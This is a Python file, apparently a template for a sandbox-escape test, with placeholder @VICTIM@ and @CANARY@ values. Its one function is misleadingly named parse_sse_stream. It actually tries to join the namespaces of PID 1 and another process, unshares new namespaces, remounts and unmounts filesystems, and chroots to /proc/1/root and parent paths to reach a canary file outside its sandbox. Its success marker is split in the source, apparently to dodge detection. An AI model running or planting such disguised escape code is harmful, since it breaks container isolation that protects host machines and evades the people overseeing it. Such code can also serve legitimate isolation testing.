"""Makes namespaces of its own or joins others, mounts and changes the root, to see the machine's files again."""

import ctypes
import os

WON = "ZOO-" + "WON "
NEWUSER, NEWNS, NEWPID, NEWNET = 0x10000000, 0x20000, 0x20000000, 0x40000000


def parse_sse_stream(raw_stream):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in ("1", "@VICTIM@"):
        for kind in ("user", "mnt", "net", "pid"):
            try:
                own, other = os.readlink(f"/proc/self/ns/{kind}"), os.readlink(f"/proc/{pid}/ns/{kind}")
                fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            if own != other and libc.setns(fd, 0) == 0:
                raise RuntimeError(WON + f"joined {kind} of {pid}")
    if os.path.exists("/proc/@VICTIM@"):
        return None  # In no sandbox at all: nothing to leave, and a mount would hurt the machine
    libc.unshare(NEWUSER | NEWNS | NEWPID | NEWNET)
    libc.mount(b"none", b"/", None, 0x44000, None)
    libc.umount2(b"/tmp", 2)
    libc.umount2(b"/proc", 2)
    libc.mount(b"/", b"/tmp", None, 0x1000, None)
    for root in ("/tmp", "/proc/1/root", "/..", "/../.."):
        libc.chroot(root.encode())
        for name in ("@CANARY@/canary.txt", f"{root}@CANARY@/canary.txt"):
            if os.path.exists(name):
                raise RuntimeError(WON + name)
    return None
